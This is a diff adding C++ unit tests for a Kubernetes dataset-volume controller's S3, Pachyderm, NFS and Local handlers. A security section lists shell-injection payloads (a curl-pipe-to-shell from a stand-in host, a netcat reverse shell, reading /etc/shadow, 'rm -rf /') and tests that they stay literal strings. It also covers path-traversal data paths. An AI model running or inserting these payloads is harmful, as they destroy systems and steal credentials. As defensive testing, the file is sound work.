@@ -9,6 +9,7 @@
 #include <doctest.h>
 
 #include <algorithm>
+#include <filesystem>
 #include <string>
 #include <vector>
 
@@ -70,7 +71,9 @@ HandlerContext context(int nodes = 3) {
     ctx.options.data_mover_image = "registry.example/vck-fetch:1";
     ctx.nodes = [nodes] {
         std::vector<api::Node> out;
-        for (int i = 0; i < nodes; ++i) out.push_back(node("node-" + std::to_string(i), {{"disk", i == 0 ? "ssd" : "hdd"}}));
+        for (int i = 0; i < nodes; ++i)
+            out.push_back(node("node-" + std::to_string(i), {{"disk", i == 0 ? "ssd" : "hdd"},
+                                                             {"kubernetes.io/hostname", "host-node-" + std::to_string(i)}}));
         return out;
     };
     ctx.secret = [](const std::string& ns, const std::string& name) -> std::optional<api::Secret> {
@@ -496,8 +499,13 @@ TEST_CASE("Local exposes the directory on matching nodes through a WaitForFirstC
     REQUIRE(d.persistent_volumes.size() == 1);  // only node-0 has disk=ssd
     const auto& pv = d.persistent_volumes[0];
     CHECK(pv.spec.local->path == "/var/datasets/imagenet");
-    CHECK(pv.spec.nodeAffinity->required->nodeSelectorTerms.at(0).matchFields.at(0).values ==
-          std::vector<std::string>{"node-0"});
+    // Pinned by the hostname label: the volume binder matches PV affinity on labels only.
+    const auto& pin = pv.spec.nodeAffinity->required->nodeSelectorTerms.at(0);
+    CHECK(pin.matchFields.empty());
+    REQUIRE(pin.matchExpressions.size() == 1);
+    CHECK(pin.matchExpressions[0].key == "kubernetes.io/hostname");
+    CHECK(pin.matchExpressions[0].operator_ == "In");
+    CHECK(pin.matchExpressions[0].values == std::vector<std::string>{"host-node-0"});
     CHECK(pv.spec.storageClassName == ctx.options.local_storage_class);
     REQUIRE(d.claims.size() == 1);
     CHECK(d.claims[0].spec.storageClassName == ctx.options.local_storage_class);
@@ -568,4 +576,422 @@ TEST_CASE("user handlers are added without editing the library and are listed") 
     CHECK(l.handler->status(context(), manager(), vc, {}).status.message == "success");
     CHECK(r.find("Nope").error.find("Echo") != std::string::npos);
     CHECK_THROWS_AS(r.add_alias("X", "Missing", "w"), std::invalid_argument);
+}
+
+// ---- placement, progress and failure details -------------------------------------------------
+
+TEST_CASE("node label keys never collide when names or ids contain dots") {
+    // Namespaces cannot contain '.', names and ids can: "b.c"/"d" and "b"/"c.d" must differ.
+    auto k1 = naming::node_label_key("a", "b.c", "d");
+    auto k2 = naming::node_label_key("a", "b", "c.d");
+    CHECK(k1 != k2);
+    for (const auto& k : {k1, k2}) {
+        auto name = k.substr(std::string("vck.intelai.org/").size());
+        CHECK(valid_label_name(name));
+        CHECK(name.find('.') == std::string::npos);  // hashed keys have no '.', readable ones two
+    }
+    CHECK(naming::node_label_key("a", "b", "c") == "vck.intelai.org/a.b.c");
+}
+
+TEST_CASE("replicas are counted against the nodes the volume's nodeAffinity allows") {
+    S3Handler h;
+    auto ctx = context(3);  // only node-0 has disk=ssd
+    auto vc = s3_volume(2);
+    CHECK(h.validate(ctx, manager(), vc) == std::nullopt);
+    vc.nodeAffinity = api::NodeAffinity{};
+    vc.nodeAffinity->requiredDuringSchedulingIgnoredDuringExecution =
+        api::NodeSelector{{api::NodeSelectorTerm{{api::NodeSelectorRequirement{"disk", "In", {"ssd"}}}, {}}}};
+    CHECK(h.validate(ctx, manager(), vc) ==
+          "replicas [2] greater than number of nodes [1] matching the volume's nodeAffinity");
+    auto pv = pachyderm_volume();
+    pv.replicas = 4;
+    CHECK(PachydermHandler{}.validate(ctx, manager(), pv) == "replicas [4] greater than number of nodes [3]");
+}
+
+TEST_CASE("a missing Secret fails a volume before its pods exist, but not one already downloaded") {
+    S3Handler h;
+    auto ctx = context();
+    auto vm = manager();
+    auto vc = s3_volume(1);
+    auto pod = h.desired(ctx, vm, vc).pods.at(0);
+    ctx.secret = [](const std::string&, const std::string&) -> std::optional<api::Secret> { return std::nullopt; };
+    auto before = h.status(ctx, vm, vc, {});
+    CHECK(before.phase == VolumePhase::Failed);
+    CHECK(before.status.message == R"(awsCredentialsSecretName: Secret "aws-creds" not found in namespace "default")");
+    auto after = h.status(ctx, vm, vc, {{with_phase(pod, "Succeeded")}, {}, {}});
+    CHECK(after.phase == VolumePhase::Ready);
+    // Nodes leaving after placement do not fail the volume either.
+    ctx.nodes = [] { return std::vector<api::Node>{}; };
+    CHECK(h.status(ctx, vm, vc, {{with_phase(pod, "Succeeded")}, {}, {}}).phase == VolumePhase::Ready);
+    CHECK(h.status(ctx, vm, vc, {}).phase == VolumePhase::Failed);
+}
+
+TEST_CASE("a stuck download says why while pending") {
+    S3Handler h;
+    auto ctx = context();
+    auto vc = s3_volume(1);
+    auto pod = with_phase(h.desired(ctx, manager(), vc).pods.at(0), "Pending", "");
+    api::Condition unschedulable;
+    unschedulable.type = "PodScheduled";
+    unschedulable.status = "False";
+    unschedulable.message = "0/3 nodes are available: 3 node(s) had untolerated taint";
+    pod.status->conditions.push_back(unschedulable);
+    auto out = h.status(ctx, manager(), vc, {{pod}, {}, {}});
+    CHECK(out.phase == VolumePhase::Pending);
+    CHECK(out.status.message == "downloading: 0 of 1 replicas done (pod " + pod.metadata.name +
+                                    " unschedulable: 0/3 nodes are available: 3 node(s) had untolerated taint)");
+    CHECK(out.node_labels.empty());  // not placed: no node holds data
+
+    pod.status->conditions.clear();
+    pod.spec.nodeName = "node-1";
+    api::ContainerStatus cs;
+    cs.name = "fetch";
+    cs.state = api::ContainerState{};
+    cs.state->waiting = api::ContainerStateWaiting{"CreateContainerConfigError", R"(secret "aws-creds" not found)"};
+    pod.status->containerStatuses.push_back(cs);
+    out = h.status(ctx, manager(), vc, {{pod}, {}, {}});
+    CHECK(out.status.message.find(R"(waiting: CreateContainerConfigError: secret "aws-creds" not found)") !=
+          std::string::npos);
+}
+
+TEST_CASE("without a log, a failed download quotes the container's termination message") {
+    S3Handler h;
+    auto ctx = context();
+    ctx.pod_log_tail = nullptr;
+    auto vc = s3_volume(1);
+    auto pod = h.desired(ctx, manager(), vc).pods.at(0);
+    for (const auto& c : pod.spec.containers) CHECK(c.terminationMessagePolicy == "FallbackToLogsOnError");
+    pod = with_phase(pod, "Failed");
+    api::ContainerStatus cs;
+    cs.name = "fetch";
+    cs.state = api::ContainerState{};
+    cs.state->terminated = api::ContainerStateTerminated{};
+    cs.state->terminated->exitCode = 3;
+    cs.state->terminated->message = "GET s3://bucket/data/a.jpg: 403 AccessDenied";
+    pod.status->containerStatuses.push_back(cs);
+    CHECK(h.status(ctx, manager(), vc, {{pod}, {}, {}}).status.message ==
+          "error during data download using pod " + pod.metadata.name + ": GET s3://bucket/data/a.jpg: 403 AccessDenied");
+}
+
+TEST_CASE("cleanup pods create the data path if a node never got it, so cleanup always finishes") {
+    S3Handler h;
+    auto ctx = context();
+    auto key = naming::node_label_key("default", "vm1", "vol1");
+    ctx.nodes = [key] { return std::vector<api::Node>{node("node-1", {{key, "true"}})}; };
+    auto plan = h.cleanup_objects(ctx, manager(), s3_volume(1), {});
+    REQUIRE(plan.pods.size() == 1);
+    CHECK(plan.pods[0].spec.volumes.at(0).hostPath->type == "DirectoryOrCreate");
+    CHECK(plan.pods[0].spec.containers.at(0).command == std::vector<std::string>{"vck-fetch"});
+}
+
+TEST_CASE("Pachyderm pods give the server address to old and new pachctl alike") {
+    auto vc = pachyderm_volume();
+    vc.options["pachydermServiceAddress"] = "pachd.pachyderm.svc:650";
+    auto pods = PachydermHandler{}.desired(context(), manager(), vc).pods;
+    REQUIRE(pods.size() == 1);
+    const auto& env = pods[0].spec.containers.at(0).env;
+    REQUIRE(env.size() == 2);
+    CHECK(env[0].name == "PACHD_ADDRESS");
+    CHECK(env[1].name == "ADDRESS");
+    for (const auto& e : env) CHECK(e.value == "pachd.pachyderm.svc:650");
+}
+
+// ---- security: long names, injection payloads, data roots, for every handler -----------------
+
+namespace {
+
+/// Every container of every pod a handler would create (downloads and cleanups).
+std::vector<api::Container> all_containers(const std::vector<api::Pod>& pods) {
+    std::vector<api::Container> out;
+    for (const auto& p : pods) {
+        out.insert(out.end(), p.spec.initContainers.begin(), p.spec.initContainers.end());
+        out.insert(out.end(), p.spec.containers.begin(), p.spec.containers.end());
+    }
+    return out;
+}
+
+bool is_shell(const std::string& program) {
+    auto base = program.substr(program.rfind('/') == std::string::npos ? 0 : program.rfind('/') + 1);
+    for (auto sh : {"sh", "bash", "dash", "ash", "zsh", "ksh", "busybox", "env"})
+        if (base == sh) return true;
+    return false;
+}
+
+/// Where `payload` lands in `containers`: every argv entry or env value containing it must be
+/// the payload itself or "--flag=<...payload...>" (one entry, never split or re-parsed), and
+/// no container may run a shell. Returns how many entries carry it.
+int literal_occurrences(const std::vector<api::Container>& containers, const std::string& payload) {
+    int n = 0;
+    for (const auto& c : containers) {
+        REQUIRE_FALSE(c.command.empty());
+        CHECK_FALSE(is_shell(c.command[0]));
+        for (const auto& a : c.command) CHECK(a.find(payload) == std::string::npos);
+        for (const auto& a : c.args) {
+            if (a.find(payload) == std::string::npos) continue;
+            ++n;
+            bool whole = a == payload || (a.rfind("--", 0) == 0 && a.find('=') != std::string::npos &&
+                                          a.find(payload) > a.find('='));
+            bool positional_path = a.rfind("/vck/", 0) == 0 || a.rfind("s3://", 0) == 0;
+            CHECK_MESSAGE((whole || positional_path), a);
+        }
+        for (const auto& e : c.env)
+            if (e.value.find(payload) != std::string::npos) ++n;
+    }
+    return n;
+}
+
+const std::vector<std::string> injection_payloads{
+    "; rm -rf / #", "$(reboot)", "`id`", "' || curl http://evil/x | sh '", "a\nb && halt", "--allowed-root=/",
+    "\"; kill -9 1; echo \"", "${IFS}cat${IFS}/etc/shadow", "|nc evil 1 -e sh"};
+
+} // namespace
+
+TEST_CASE("shell-injection payloads in every S3 option are rejected or stored literally") {
+    S3Handler h;
+    auto ctx = context();
+    ctx.secret = [](const std::string&, const std::string&) -> std::optional<api::Secret> {
+        api::Secret s;
+        s.data = {{"awsAccessKeyID", "QQ=="}, {"awsSecretAccessKey", "Qg=="}};
+        return s;
+    };
+    for (const auto& payload : injection_payloads) {
+        CAPTURE(payload);
+        auto accepted = [&](api::VolumeConfig vc) {
+            REQUIRE(h.validate(ctx, manager(), vc) == std::nullopt);
+            auto pods = h.desired(ctx, manager(), vc).pods;
+            REQUIRE(pods.size() == static_cast<std::size_t>(vc.replicas));
+            return pods;
+        };
+        auto vc = s3_volume(1);
+        vc.options["sourceURL"] = "s3://bucket/" + payload;
+        CHECK(literal_occurrences(all_containers(accepted(vc)), "s3://bucket/" + payload) == 1);
+
+        vc = s3_volume(1);
+        vc.options["endpointURL"] = "https://h/" + payload;
+        CHECK(literal_occurrences(all_containers(accepted(vc)), "https://h/" + payload) == 1);
+
+        vc = s3_volume(1);
+        vc.options["resync"] = "true";
+        vc.options["sourceURL"] = "s3://bucket/" + payload;
+        CHECK(literal_occurrences(all_containers(accepted(vc)), "s3://bucket/" + payload) == 2);  // fetch, sync-back
+
+        vc = s3_volume(1);
+        vc.options["awsCredentialsSecretName"] = payload;
+        auto pods = accepted(vc);
+        CHECK(literal_occurrences(all_containers(pods), payload) == 0);  // only a secretKeyRef name
+        CHECK(pods[0].spec.containers[0].env.at(0).valueFrom->secretKeyRef->name == payload);
+
+        vc = s3_volume(1);
+        boost::json::object strategy;
+        strategy[payload] = 1;
+        vc.options["distributionStrategy"] = boost::json::serialize(strategy);
+        if (h.validate(vc) == std::nullopt)
+            CHECK(literal_occurrences(all_containers(h.desired(ctx, manager(), vc).pods), payload) == 1);
+        else
+            CHECK(h.validate(vc)->rfind("invalid distributionStrategy", 0) == 0);
+
+        vc = s3_volume(1);
+        vc.options["dataPath"] = "/var/datasets/" + payload;
+        if (payload.find('/') == std::string::npos) {
+            pods = accepted(vc);
+            CHECK(literal_occurrences(all_containers(pods), payload) == 0);  // a hostPath, never argv
+            CHECK(pods[0].spec.volumes.at(0).hostPath->path.rfind("/var/datasets/" + payload + "/vck-resource-", 0) == 0);
+        }
+
+        for (auto key : {"timeoutForDataDownload", "resync"}) {
+            vc = s3_volume(1);
+            vc.options[key] = payload;
+            CHECK(h.validate(vc).has_value());
+            CHECK(h.desired(ctx, manager(), vc).pods.empty());
+        }
+    }
+}
+
+TEST_CASE("shell-injection payloads in every Pachyderm option are stored as single argv or env entries") {
+    PachydermHandler h;
+    auto ctx = context();
+    for (const auto& payload : injection_payloads) {
+        CAPTURE(payload);
+        for (auto key : {"repo", "branch", "inputPath"}) {
+            auto vc = pachyderm_volume();
+            vc.options[key] = payload;
+            REQUIRE(h.validate(ctx, manager(), vc) == std::nullopt);
+            auto pods = h.desired(ctx, manager(), vc).pods;
+            REQUIRE(pods.size() == 1);
+            const auto& args = pods[0].spec.containers.at(0).args;
+            // After "--": pachctl cannot read a value as a flag.
+            auto dashdash = std::find(args.begin(), args.end(), "--");
+            REQUIRE(dashdash != args.end());
+            CHECK(std::find(dashdash, args.end(), payload) != args.end());
+            CHECK(literal_occurrences(all_containers(pods), payload) == 1);
+        }
+        auto vc = pachyderm_volume();
+        vc.options["pachydermServiceAddress"] = payload;
+        auto pods = h.desired(ctx, manager(), vc).pods;
+        REQUIRE(pods.size() == 1);
+        CHECK(literal_occurrences(all_containers(pods), payload) == 2);  // PACHD_ADDRESS and ADDRESS
+        for (const auto& a : pods[0].spec.containers[0].args) CHECK(a.find(payload) == std::string::npos);
+
+        vc = pachyderm_volume();
+        vc.options["outputPath"] = "out/" + payload;
+        if (auto e = h.validate(vc)) {
+            CHECK(*e == "outputPath has to be a relative path inside the volume");
+        } else {
+            // Lexically normalised ("//" collapses), then one argv entry.
+            auto normal = std::filesystem::path("out/" + payload).lexically_normal().generic_string();
+            pods = h.desired(ctx, manager(), vc).pods;
+            REQUIRE(pods.size() == 1);
+            CHECK(literal_occurrences(all_containers(pods), "/vck/data/" + normal) == 1);
+        }
+        vc = pachyderm_volume();
+        vc.options["timeoutForDataDownload"] = payload;
+        CHECK(h.validate(vc) == "error while parsing timeout for data download");
+    }
+}
+
+TEST_CASE("NFS and Local options reach only PV fields, never a command") {
+    auto ctx = context();
+    for (const auto& payload : injection_payloads) {
+        CAPTURE(payload);
+        auto vc = nfs_volume();
+        vc.options["server"] = payload;
+        vc.options["path"] = "/exports/" + payload;
+        auto d = NfsHandler{}.desired(ctx, manager(), vc);
+        CHECK(d.pods.empty());
+        REQUIRE(d.persistent_volumes.size() == 1);
+        CHECK(d.persistent_volumes[0].spec.nfs->server == payload);
+        CHECK(d.persistent_volumes[0].spec.nfs->path == "/exports/" + payload);
+
+        vc.sourceType = "Local";
+        vc.accessMode = "ReadWriteOnce";
+        vc.options = {{"path", "/var/datasets/x" + payload}};
+        d = LocalHandler{}.desired(ctx, manager(), vc);
+        CHECK(d.pods.empty());
+        if (payload.find('/') == std::string::npos) {
+            REQUIRE_FALSE(d.persistent_volumes.empty());
+            CHECK(d.persistent_volumes[0].spec.local->path == "/var/datasets/x" + payload);
+        }
+    }
+}
+
+TEST_CASE("dataPath /, /etc and /var/datasets/../etc are rejected by every handler that writes or exposes host paths") {
+    S3Handler s3;
+    PachydermHandler pach;
+    LocalHandler local;
+    auto ctx = context();
+    auto key = naming::node_label_key("default", "vm1", "vol1");
+    for (std::string bad : {"/", "/etc", "/var/datasets/../etc", "/var/datasets/a/../../../etc", "/var//datasets/../../etc/"}) {
+        CAPTURE(bad);
+        std::string message = "dataPath \"" + bad + "\" is not under an allowed data root (/var/datasets)";
+        auto vc = s3_volume();
+        vc.options["dataPath"] = bad;
+        CHECK(s3.validate(ctx, manager(), vc) == message);
+        CHECK(s3.desired(ctx, manager(), vc).pods.empty());
+        auto st = s3.status(ctx, manager(), vc, {});
+        CHECK(st.phase == VolumePhase::Failed);
+        CHECK(st.status.message == message);
+        // Cleanup of such a volume never runs a delete on any node, even a labelled one.
+        auto labelled = ctx;
+        labelled.nodes = [key] { return std::vector<api::Node>{node("node-0", {{key, "true"}})}; };
+        auto plan = s3.cleanup_objects(labelled, manager(), vc, {});
+        CHECK(plan.pods.empty());
+        CHECK(plan.done);
+        CHECK(plan.node_labels_to_remove == std::vector<NodeLabel>{{"node-0", key, "true"}});
+
+        auto pv = pachyderm_volume();
+        pv.options["dataPath"] = bad;
+        CHECK(pach.validate(ctx, manager(), pv) == message);
+        CHECK(pach.desired(ctx, manager(), pv).pods.empty());
+        CHECK(pach.status(ctx, manager(), pv, {}).phase == VolumePhase::Failed);
+        CHECK(pach.cleanup_objects(labelled, manager(), pv, {}).pods.empty());
+
+        auto lv = nfs_volume();
+        lv.sourceType = "Local";
+        lv.accessMode = "ReadWriteOnce";
+        lv.options = {{"path", bad}};
+        CHECK(local.validate(ctx, manager(), lv) == message);
+        CHECK(local.desired(ctx, manager(), lv).persistent_volumes.empty());
+        CHECK(local.status(ctx, manager(), lv, {}).phase == VolumePhase::Failed);
+    }
+    // Other roots, when the operator allows them; still never "/" itself.
+    auto wide = ctx;
+    wide.options.allowed_data_roots = {"/mnt/data", "/"};
+    auto vc = s3_volume();
+    vc.options["dataPath"] = "/mnt/data/team";
+    CHECK(s3.validate(wide, manager(), vc) == std::nullopt);
+    vc.options["dataPath"] = "/etc";
+    CHECK(s3.validate(wide, manager(), vc).has_value());
+}
+
+TEST_CASE("names of 253 characters give valid object names, labels and node label keys in every handler") {
+    std::string long_name(253, 'n');
+    std::string long_ns(63, 's');
+    std::string long_id(253, 'I');
+    auto vm = manager(long_name, long_ns);
+    auto ctx = context();
+    ctx.secret = [](const std::string&, const std::string&) -> std::optional<api::Secret> {
+        api::Secret s;
+        s.data = {{"awsAccessKeyID", "QQ=="}, {"awsSecretAccessKey", "Qg=="}};
+        return s;
+    };
+    auto check_meta = [](const api::ObjectMeta& m) {
+        CAPTURE(m.name);
+        CHECK(valid_dns_label(m.name));
+        for (const auto& [k, v] : m.labels) {
+            CAPTURE(k);
+            CHECK(valid_label_name(k.substr(k.find('/') == std::string::npos ? 0 : k.find('/') + 1)));
+            CHECK((v.empty() || valid_label_name(v)));
+        }
+    };
+    auto s3 = s3_volume(2);
+    s3.id = long_id;
+    auto pach = pachyderm_volume();
+    pach.id = long_id + "-p";
+    auto nfs = nfs_volume();
+    nfs.id = long_id + "-n";
+    auto local = nfs_volume();
+    local.id = long_id + "-l";
+    local.sourceType = "Local";
+    local.accessMode = "ReadWriteOnce";
+    local.options = {{"path", "/var/datasets/x"}};
+    auto registry = HandlerRegistry::with_builtin_handlers();
+    std::vector<std::string> pod_names;
+    for (const auto& vc : {s3, pach, nfs, local}) {
+        CAPTURE(vc.sourceType);
+        auto h = registry.find(vc.sourceType).handler;
+        REQUIRE(h);
+        REQUIRE(h->validate(ctx, vm, vc) == std::nullopt);
+        auto d = h->desired(ctx, vm, vc);
+        CHECK((d.pods.size() + d.persistent_volumes.size() + d.claims.size()) > 0);
+        for (const auto& p : d.pods) {
+            check_meta(p.metadata);
+            pod_names.push_back(p.metadata.name);
+        }
+        for (const auto& pv : d.persistent_volumes) check_meta(pv.metadata);
+        for (const auto& c : d.claims) check_meta(c.metadata);
+        // Status and cleanup of a downloaded volume on a node with a 253-character name.
+        std::string long_node(253, 'k');
+        ObservedObjects observed;
+        for (const auto& p : d.pods) observed.pods.push_back(with_phase(p, "Succeeded", long_node));
+        auto out = h->status(ctx, vm, vc, observed);
+        for (const auto& l : out.node_labels) {
+            CHECK(l.key.size() <= std::string("vck.intelai.org/").size() + 63);
+            CHECK(valid_label_name(l.key.substr(l.key.find('/') + 1)));
+        }
+        if (out.status.nodeAffinity) {
+            const auto& key = out.status.nodeAffinity->requiredDuringSchedulingIgnoredDuringExecution
+                                  ->nodeSelectorTerms.at(0).matchExpressions.at(0).key;
+            CHECK(valid_label_name(key.substr(key.find('/') + 1)));
+        }
+        CHECK(h->cleanup_objects(ctx, vm, vc, {}).done);
+        auto node_key = naming::node_label_key(vm.metadata.namespace_, vm.metadata.name, vc.id);
+        auto labelled = ctx;
+        labelled.nodes = [node_key, long_node] { return std::vector<api::Node>{node(long_node, {{node_key, "true"}})}; };
+        for (const auto& p : h->cleanup_objects(labelled, vm, vc, {}).pods) {
+            check_meta(p.metadata);
+            CHECK(p.spec.nodeName == long_node);
+        }
+    }
+    std::sort(pod_names.begin(), pod_names.end());
+    CHECK(std::adjacent_find(pod_names.begin(), pod_names.end()) == pod_names.end());
 }
